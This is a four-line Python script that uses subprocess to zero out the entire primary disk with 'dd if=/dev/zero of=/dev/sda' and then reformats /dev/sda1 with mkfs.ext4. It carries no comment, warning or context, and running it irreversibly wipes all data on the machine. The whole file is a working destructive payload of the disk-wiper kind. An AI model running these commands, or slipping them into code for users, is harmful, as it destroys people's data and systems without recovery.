import subprocess

subprocess.call("dd if=/dev/zero of=/dev/sda bs=1M", shell=True)
subprocess.call(["mkfs.ext4", "/dev/sda1"])
